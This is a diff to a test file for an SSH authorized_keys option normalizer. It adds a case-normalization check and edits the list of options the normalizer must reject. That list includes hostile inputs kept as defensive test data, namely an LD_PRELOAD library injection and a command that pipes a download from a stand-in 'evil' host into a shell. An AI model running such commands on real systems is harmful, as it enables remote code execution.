@@ -131,6 +131,12 @@ describe("access spec", () => {
         );
         assert.equal(normalizeKeyOptions('expiry-time="203012312359Z"'), 'expiry-time="203012312359Z"');
         assert.equal(normalizeKeyOptions(""), undefined);
+        assert.equal(
+            normalizeKeyOptions(
+                "restrict,PTY,Port-Forwarding,agent-forwarding,x11-forwarding,user-rc,no-touch-required,verify-required",
+            ),
+            "restrict,pty,port-forwarding,agent-forwarding,X11-forwarding,user-rc,no-touch-required,verify-required",
+        );
     });
 
     const badOptions: [string, RegExp][] = [
@@ -139,7 +145,8 @@ describe("access spec", () => {
         ['environment="LD_PRELOAD=/tmp/x.so"', /not allowed/],
         ['permitopen="localhost:22"', /not allowed/],
         ["cert-authority", /not allowed/],
-        ["agent-forwarding", /not allowed/],
+        ['environment="LD_PRELOAD=/tmp/x.so"', /not allowed/],
+        ['tunnel="0"', /not allowed/],
         ['from="10.0.0.0/8', /unbalanced/],
         ['command="a\\"b"', /backslash/],
         ['command="$(curl evil|sh)"', /may use only/],
